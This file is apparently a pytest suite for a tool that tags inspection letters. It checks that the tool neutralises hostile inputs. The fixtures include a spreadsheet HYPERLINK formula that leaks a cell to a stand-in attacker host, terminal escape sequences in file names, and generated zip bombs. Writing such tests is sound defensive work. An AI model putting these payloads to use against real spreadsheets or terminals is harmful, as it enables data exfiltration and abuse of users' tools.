@@ -1,0 +1,496 @@
+"""Hostile and unlucky inputs: nothing executed, nothing lost, nothing hangs.
+
+Each case puts one hostile file beside a normal letter (or two writers on one file) and checks the
+exit status, a one-line reason naming the file, that the normal letter is still tagged, that
+nothing else changed (hashes before and after), and that no process or temporary file is left.
+Hostile files are generated here, small enough to run in CI; the limits they cross are
+``ofsted_themes.core.limits``. Timings are never asserted: a ``timeout`` guards against a hang.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import io
+import os
+import signal
+import subprocess
+import sys
+import time
+import zipfile
+from pathlib import Path
+
+import letter_factory as lf
+import pandas as pd
+import pytest
+
+from ofsted_themes.core.limits import MAX_FILE_BYTES, MAX_SENTENCES, MAX_TABLE_ROWS
+from ofsted_themes.core.tables import read_table, write_table
+from ofsted_themes.labelling.store import append_labels, read_labels
+from ofsted_themes.tagging.outputs import OutputSet, marker_path, recover
+
+ROOT = Path(__file__).resolve().parents[1]
+THEMES = ["cse", "missing", "staffing", "oversight"]
+FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"open")'
+
+
+def run(command: str, *args, cwd: Path = ROOT, timeout: int = 180) -> subprocess.CompletedProcess:
+    env = {k: v for k, v in os.environ.items() if not k.startswith("MLFLOW_")}
+    return subprocess.run(
+        [sys.executable, "-m", command, *map(os.fsdecode, args)],
+        cwd=cwd,
+        env=env,
+        capture_output=True,
+        text=True,
+        errors="backslashreplace",
+        timeout=timeout,  # a guard against a hang, not a timing assertion
+        check=False,
+    )
+
+
+def tag(tagger_file: Path, out: Path, *inputs, cwd: Path = ROOT, **options):
+    extra = [a for k, v in options.items() for a in (f"--{k.replace('_', '-')}", v)]
+    summary, report = out.with_name("letters.csv"), out.with_name("report.html")
+    return run("tag", *inputs, "--model", tagger_file, "--out", out, "--summary", summary,
+               "--report", report, *extra, cwd=cwd)  # fmt: skip
+
+
+def normal_letter(folder: Path) -> Path:
+    folder.mkdir(parents=True, exist_ok=True)
+    return lf.make_text_letter(folder / "normal.txt", "jtai")
+
+
+def hashes(folder: Path) -> dict[str, str]:
+    return {
+        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
+        for p in sorted(folder.rglob("*"))
+        if p.is_file()
+    }
+
+
+def leftovers(folder: Path) -> list[str]:
+    """Temporary or staged files left anywhere under ``folder``."""
+    return [p.name for p in folder.rglob("*") if ".tmp" in p.name or p.name.startswith(".staging")]
+
+
+def failure_lines(done: subprocess.CompletedProcess, name: str) -> list[str]:
+    """The failure table's lines naming ``name``; the command never shows a traceback."""
+    assert "Traceback" not in done.stderr, done.stderr[-2000:]
+    return [line for line in done.stderr.splitlines() if name in line]
+
+
+def documents(out: Path) -> set[str]:
+    return set(read_table(out)["document"])
+
+
+def zipped(entries: dict[str, bytes]) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in entries.items():
+            archive.writestr(name, data)
+    return buffer.getvalue()
+
+
+# --- 1. spreadsheet-safe outputs ---------------------------------------------------------------
+
+
+def test_sentences_and_names_that_start_a_formula_are_text_in_every_table(tagger_file, tmp_path):
+    letters = tmp_path / "letters"
+    normal_letter(letters)
+    (letters / "=cmd.txt").write_text(f"{FORMULA} is what the letter says here.\n+1 and more.\n")
+    out = tmp_path / "out" / "tags.csv"
+    done = tag(tagger_file, out, "=cmd.txt", "normal.txt", cwd=letters)  # names as given
+    assert done.returncode == 0, done.stderr
+    raw = out.read_text(encoding="utf-8") + out.with_name("letters.csv").read_text()
+    cells = [c.strip('"') for line in raw.splitlines() for c in line.split(",")]
+    assert not [c for c in cells if c.startswith(("=", "+", "@"))]
+    assert "'=cmd.txt" in raw and "'=HYPERLINK" in raw
+    back = read_table(out)  # the raw text, as the letter has it
+    assert back["text"].str.startswith("=HYPERLINK").any()
+    assert "=cmd.txt" in set(back["document"])
+
+
+def test_jsonl_keeps_raw_text_and_xlsx_stores_formulas_as_text(tagger_file, tmp_path):
+    letters = tmp_path / "letters"
+    (letters / "a").mkdir(parents=True)
+    (letters / "a" / "x.txt").write_text(f"{FORMULA} is in this letter.\n")
+    for suffix in (".jsonl", ".xlsx"):
+        out = tmp_path / suffix.strip(".") / f"tags{suffix}"
+        assert tag(tagger_file, out, letters).returncode == 0
+        assert read_table(out)["text"].str.startswith("=HYPERLINK").any()
+    sheet = zipfile.ZipFile(tmp_path / "xlsx" / "tags.xlsx").read("xl/worksheets/sheet1.xml")
+    assert b"<f>" not in sheet and b"=HYPERLINK" in sheet  # a string cell, never a formula
+
+
+def test_the_label_store_keeps_formulas_quoted_on_disk_and_raw_when_read(tmp_path):
+    store = tmp_path / "user.csv"
+    row = {"id": "user-1", "document": "=a.pdf", "text": FORMULA, "page": "1",
+           "sentence_no": "1", "source_digest": "0", "labelled_at": "2026-01-01T00:00:00+00:00",
+           "cse": "0", "missing": "0", "staffing": "0", "oversight": "1"}  # fmt: skip
+    append_labels(store, pd.DataFrame([row]), THEMES)
+    assert "'=HYPERLINK" in store.read_text() and "'=a.pdf" in store.read_text()
+    assert read_labels(store, THEMES).loc[0, "text"] == FORMULA
+
+
+def test_text_that_already_starts_with_a_quote_round_trips(tmp_path):
+    frame = pd.DataFrame({"text": ["'=x", "''+y", "'''@z", "'plain", "-"], "n": [1, 2, 3, 4, 5]})
+    assert read_table(write_table(frame, tmp_path / "t.csv")).equals(frame)
+
+
+# --- 2. bounded work per input -----------------------------------------------------------------
+
+
+def docx_with_xml(size: int) -> bytes:
+    paragraph = b"<w:p><w:r><w:t>" + b"A" * 1000 + b"</w:t></w:r></w:p>"
+    body = paragraph * (size // len(paragraph) + 1)
+    document = b'<w:document xmlns:w="x"><w:body>' + body + b"</w:body></w:document>"
+    return zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": document})
+
+
+def xlsx_with_xml(size: int) -> bytes:
+    return zipped({"xl/worksheets/sheet1.xml": b"<c/>" * (size // 4)})
+
+
+def sparse(path: Path, size: int) -> None:
+    """A file of ``size`` bytes that takes no disk space (a table header, then zeros)."""
+    path.write_text("text\n")
+    os.truncate(path, size)
+
+
+HOSTILE = {  # name: (make the file in a folder, words its reason must hold)
+    "bomb.docx": (lambda p: p.write_bytes(docx_with_xml(11_000_000)), "MB of XML"),
+    "bomb.xlsx": (lambda p: p.write_bytes(xlsx_with_xml(12_000_000)), "MB of XML"),
+    "rows.csv": (lambda p: p.write_text("text\n" + "Workers are tired.\n" * (MAX_TABLE_ROWS + 1)),
+                 f"over {MAX_TABLE_ROWS:,} rows"),
+    "sentences.txt": (lambda p: p.write_text("Workers are tired.\n" * (MAX_SENTENCES + 1)),
+                      f"over {MAX_SENTENCES:,} sentences"),
+    "huge.csv": (lambda p: sparse(p, MAX_FILE_BYTES + 1), "file too large"),
+    "dots.txt": (lambda p: p.write_text("a. " * 150_000), "took over 2 s"),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_a_file_beyond_a_limit_fails_alone_with_its_reason(tagger_file, tmp_path, name):
+    letters = tmp_path / "letters"
+    normal_letter(letters)
+    make, reason = HOSTILE[name]
+    make(letters / name)
+    out = tmp_path / "out" / "tags.csv"
+    done = tag(tagger_file, out, letters, time_limit="2")
+    assert done.returncode == 1, done.stderr
+    [line] = failure_lines(done, name)
+    assert reason in line
+    assert documents(out) == {str(letters / "normal.txt")}  # outside the project: in full
+    assert read_table(out.with_name("failures.csv"))["file"].str.endswith(name).all()
+    assert not leftovers(tmp_path)
+
+
+def test_a_long_line_is_split_in_linear_time_into_capped_sentences(tagger_file, tmp_path):
+    from ofsted_themes.reading.sentences import MAX_SENTENCE_CHARS
+
+    letters = tmp_path / "letters"
+    normal_letter(letters)
+    sentence = "Managers do not check the plans of children who are at risk. "
+    (letters / "long.txt").write_text("word " * 5_000 + sentence * 7_000)  # 0.45 MB, one line
+    out = tmp_path / "out" / "tags.csv"
+    done = tag(tagger_file, out, letters)
+    assert done.returncode == 0, done.stderr
+    tags = read_table(out)
+    long = tags[tags["document"].str.endswith("long.txt")]
+    assert len(long) >= 7_000
+    assert long["text"].str.len().max() <= MAX_SENTENCE_CHARS
+
+
+# --- 3. writes that cannot be lost -------------------------------------------------------------
+
+
+def labels_file(path: Path, prefix: str, n: int) -> Path:
+    rows = [{"document": f"{prefix}.pdf", "page": 1, "sentence_no": i,
+             "text": f"Sentence {prefix} number {i} about workers.", "source_digest": prefix,
+             "cse": 0, "missing": 0, "staffing": 1, "oversight": 0} for i in range(n)]  # fmt: skip
+    pd.DataFrame(rows).to_csv(path, index=False)
+    return path
+
+
+def test_two_label_imports_at_once_keep_every_label(tmp_path):
+    store = tmp_path / "labels" / "user.csv"
+    files = [labels_file(tmp_path / f"{p}.csv", p, 3000) for p in ("north", "south")]
+    env = {k: v for k, v in os.environ.items() if not k.startswith("MLFLOW_")}
+    imports = [
+        subprocess.Popen(
+            [sys.executable, "-m", "label", "import", str(f), "--labels", str(store)],
+            cwd=ROOT,
+            env=env,
+            stdout=subprocess.PIPE,
+            stderr=subprocess.PIPE,
+            text=True,
+        )
+        for f in files
+    ]
+    for process in imports:
+        out, err = process.communicate(timeout=300)
+        assert process.returncode == 0, err
+        assert "Imported 3000" in out
+    assert len(read_labels(store, THEMES)) == 6000
+
+
+def test_a_second_tag_onto_the_same_out_is_refused_and_the_first_completes(tagger_file, tmp_path):
+    letters = tmp_path / "letters"
+    normal_letter(letters)
+    (letters / "slow.txt").write_text("a. " * 60_000)  # several seconds of splitting
+    out = tmp_path / "out" / "tags.csv"
+    env = {k: v for k, v in os.environ.items() if not k.startswith("MLFLOW_")}
+    first = subprocess.Popen(
+        [sys.executable, "-m", "tag", str(letters), "--model", str(tagger_file), "--out",
+         str(out), "--no-report", "--jobs", "1"],
+        cwd=ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
+    )  # fmt: skip
+    time.sleep(4)  # the first holds the lock while it reads the slow letter
+    second = tag(tagger_file, out, letters)
+    assert second.returncode == 2
+    assert "being written by another tag run" in second.stderr
+    first.communicate(timeout=300)
+    assert first.returncode == 0
+    assert len(documents(out)) == 2
+
+
+def test_a_commit_interrupted_between_renames_is_finished_by_the_next_run(tmp_path):
+    out, summary = tmp_path / "tags.csv", tmp_path / "letters.csv"
+    for path, text in ((out, "old"), (summary, "old")):
+        path.write_text(text)
+    outputs = OutputSet(out, record={"model": "m", "root": str(tmp_path)})
+    outputs.stage(out).write_text("new tags")
+    outputs.stage(summary).write_text("new summary")
+
+    def crash(*_):  # the process dies after writing the marker, before any rename
+        raise SystemExit(137)
+
+    import ofsted_themes.tagging.outputs as module
+
+    real = module._finish
+    module._finish = crash
+    try:
+        with pytest.raises(SystemExit):
+            outputs.commit()
+    finally:
+        module._finish = real
+    assert out.read_text() == "old" and marker_path(out).exists()
+    assert recover(out)["model"] == "m"
+    assert (out.read_text(), summary.read_text()) == ("new tags", "new summary")
+    assert not leftovers(tmp_path)
+
+
+def test_the_mlflow_store_is_created_once_when_two_commands_start_together(tmp_path):
+    uri = f"sqlite:///{tmp_path / 'mlflow.db'}"
+    code = ("import sys; from ofsted_themes.tracking.store import connect, use_experiment; "
+            "connect(sys.argv[1]); use_experiment('train'); print('ok')")  # fmt: skip
+    env = {k: v for k, v in os.environ.items() if not k.startswith("MLFLOW_")}
+    starts = [
+        subprocess.Popen([sys.executable, "-c", code, uri], cwd=ROOT, env=env,
+                         stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+        for _ in range(3)
+    ]  # fmt: skip
+    for process in starts:
+        out, err = process.communicate(timeout=300)
+        assert process.returncode == 0 and out.strip() == "ok", err[-2000:]
+
+
+# --- 4. paths checked before work --------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("where", "message"),
+    [
+        ("input", "is one of the inputs"),
+        ("summary", "is the same file as --out"),
+        ("folder", "is a folder"),
+    ],
+)
+def test_outputs_onto_inputs_or_each_other_are_refused_before_work(
+    tagger_file, tmp_path, where, message
+):
+    letters = tmp_path / "letters"
+    normal_letter(letters)
+    table = tmp_path / "sentences.csv"
+    table.write_text("text\nManagers check plans.\n")
+    (tmp_path / "o" / "folder.csv").mkdir(parents=True)
+    outs = {"input": table, "summary": tmp_path / "o" / "tags.csv"}
+    out = outs.get(where, tmp_path / "o" / "folder.csv")
+    before = hashes(tmp_path)
+    summary = out if where == "summary" else tmp_path / "o" / "letters.csv"
+    done = run("tag", letters, table, "--model", tagger_file, "--out", out, "--summary", summary,
+               "--no-report")  # fmt: skip
+    assert done.returncode == 2
+    assert message in done.stderr and "Traceback" not in done.stderr
+    assert hashes(tmp_path) == before
+
+
+def test_non_utf8_file_names_are_tagged_and_listed(tagger_file, tmp_path):
+    letters = tmp_path / "letters"
+    normal_letter(letters)
+    folder = os.fsencode(letters)
+    Path(os.fsdecode(folder + b"/caf\xe9.txt")).write_text("Managers check the plans.\n")
+    Path(os.fsdecode(folder + b"/bad\xff.pdf")).write_bytes(b"not a pdf")
+    out = tmp_path / "out" / "tags.csv"
+    done = tag(tagger_file, out, letters)
+    assert done.returncode == 1, done.stderr
+    assert any(d.endswith("caf\\xe9.txt") for d in documents(out))
+    failures = read_table(out.with_name("failures.csv"))
+    assert failures["file"].str.endswith("bad\\xff.pdf").all()
+
+
+def test_resume_from_another_folder_tags_nothing_twice(tagger_file, tmp_path):
+    letters = tmp_path / "letters"
+    normal_letter(letters)
+    lf.make_text_letter(letters / "second.txt", "focused_visit")
+    out = tmp_path / "out" / "tags.csv"
+    assert tag(tagger_file, out, "letters", cwd=tmp_path).returncode == 0
+    first = read_table(out)
+    elsewhere = tmp_path / "elsewhere"
+    elsewhere.mkdir()
+    done = tag(tagger_file, out, letters, "--resume", cwd=elsewhere)
+    assert done.returncode == 0, done.stderr
+    assert "2 already tagged, skipped" in done.stdout
+    assert len(read_table(out)) == len(first)
+
+
+def test_resume_with_another_model_is_refused(tagger_file, tmp_path):
+    letters = tmp_path / "letters"
+    normal_letter(letters)
+    out = tmp_path / "out" / "tags.csv"
+    assert tag(tagger_file, out, letters).returncode == 0
+    before = hashes(tmp_path / "out")
+    done = tag(tagger_file, out, letters, "--resume", threshold="cse=0.9")
+    assert done.returncode == 2
+    assert "written by another model or other thresholds" in done.stderr
+    assert hashes(tmp_path / "out") == before
+
+
+# --- 5. terminal-safe printing -----------------------------------------------------------------
+
+
+def test_escape_sequences_in_names_never_reach_the_terminal(tagger_file, tmp_path):
+    letters = tmp_path / "letters"
+    normal_letter(letters)
+    (letters / "\x1b[2J\x1b]0;pwned\x07.pdf").write_bytes(b"not a pdf")
+    done = tag(tagger_file, tmp_path / "out" / "tags.csv", letters)
+    assert done.returncode == 1
+    assert "\x1b" not in done.stderr + done.stdout and "\x07" not in done.stderr
+    assert "\\x1b[2J" in done.stderr
+
+
+# --- 6. processes and temporary files ----------------------------------------------------------
+
+
+def many_letters(folder: Path, n: int) -> Path:
+    folder.mkdir(parents=True)
+    for i in range(n):
+        lf.make_text_letter(folder / f"letter_{i:03d}.txt", ["jtai", "focused_visit"][i % 2])
+    (folder / "slow.txt").write_text("a. " * 60_000)
+    return folder
+
+
+def children_of(pid: int) -> list[int]:
+    found = subprocess.run(["pgrep", "-P", str(pid)], capture_output=True, text=True)
+    return [int(p) for p in found.stdout.split()]
+
+
+def wait_gone(pids: list[int], seconds: float = 15) -> list[int]:
+    deadline = time.monotonic() + seconds
+    while time.monotonic() < deadline:
+        alive = [p for p in pids if Path(f"/proc/{p}").exists() and "Z" not in _state(p)]
+        if not alive:
+            return []
+        time.sleep(0.2)
+    return alive
+
+
+def _state(pid: int) -> str:
+    try:
+        return Path(f"/proc/{pid}/stat").read_text().split(")")[-1].split()[0]
+    except OSError:
+        return "Z"
+
+
+@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
+@pytest.mark.parametrize("how", [signal.SIGKILL, signal.SIGTERM], ids=["kill -9", "kill"])
+def test_a_killed_tag_leaves_no_worker_and_its_outputs_as_they_were(tagger_file, tmp_path, how):
+    letters = many_letters(tmp_path / "letters", 40)
+    out = tmp_path / "out" / "tags.csv"
+    assert tag(tagger_file, out, letters / "letter_000.txt").returncode == 0
+    before = hashes(tmp_path / "out")
+    env = {k: v for k, v in os.environ.items() if not k.startswith("MLFLOW_")}
+    process = subprocess.Popen(
+        [sys.executable, "-m", "tag", str(letters), "--model", str(tagger_file), "--out",
+         str(out), "--no-report", "--jobs", "2"],
+        cwd=ROOT, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True,
+    )  # fmt: skip
+    deadline = time.monotonic() + 60
+    while len(children_of(process.pid)) < 2 and time.monotonic() < deadline:
+        time.sleep(0.1)
+    workers = children_of(process.pid)
+    assert workers, "the batch never started its workers"
+    time.sleep(1)
+    process.send_signal(how)
+    process.communicate(timeout=60)
+    assert not wait_gone(workers), "a worker outlived its batch"
+    kept = {k: v for k, v in hashes(tmp_path / "out").items() if ".tmp" not in k}
+    assert kept == before  # the outputs as they were
+    if how == signal.SIGTERM:
+        assert process.returncode == 130
+        assert not leftovers(tmp_path / "out")
+    else:  # nothing can clean up after kill -9: the next run removes what it left
+        assert tag(tagger_file, out, letters / "letter_000.txt").returncode == 0
+        assert not leftovers(tmp_path / "out")
+
+
+# --- 7. the MLflow UI with logins --------------------------------------------------------------
+
+
+def test_the_ui_with_auth_refuses_anonymous_requests(tmp_path):
+    pytest.importorskip("flask_wtf", reason="the auth extra: make ui AUTH=1 installs it")
+    import socket
+    import urllib.error
+    import urllib.request
+
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        port = s.getsockname()[1]
+    env = {k: v for k, v in os.environ.items() if not k.startswith("MLFLOW_")}
+    env |= {"MLFLOW_AUTH_ADMIN_PASSWORD": "correct-horse-battery", "MLFLOW_FLASK_SERVER_SECRET_KEY":
+            "test", "MLFLOW_SERVER_ENABLE_JOB_EXECUTION": "false"}  # fmt: skip
+    server = subprocess.Popen(  # the server `make ui AUTH=1` starts
+        [sys.executable, "-m", "mlflow", "server", "--backend-store-uri",
+         f"sqlite:///{tmp_path / 'mlflow.db'}", "--host", "127.0.0.1", "--port", str(port),
+         "--workers", "1", "--app-name", "basic-auth"],
+        cwd=tmp_path, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
+        start_new_session=True,
+    )  # fmt: skip
+    url = f"http://127.0.0.1:{port}/api/2.0/mlflow/experiments/search?max_results=1"
+
+    def status(password: str | None) -> int:
+        request = urllib.request.Request(url)
+        if password:
+            import base64
+
+            token = base64.b64encode(f"admin:{password}".encode()).decode()
+            request.add_header("Authorization", f"Basic {token}")
+        try:
+            return urllib.request.urlopen(request, timeout=5).status
+        except urllib.error.HTTPError as error:
+            return error.code
+
+    try:
+        deadline = time.monotonic() + 120
+        while True:
+            try:
+                first = status(None)
+                break
+            except (urllib.error.URLError, ConnectionError, TimeoutError):
+                assert time.monotonic() < deadline and server.poll() is None, "no server"
+                time.sleep(0.5)
+        assert first == 401
+        assert status("wrong password") == 401
+        assert status("correct-horse-battery") == 200
+    finally:
+        os.killpg(server.pid, signal.SIGTERM)
+        server.wait(timeout=30)
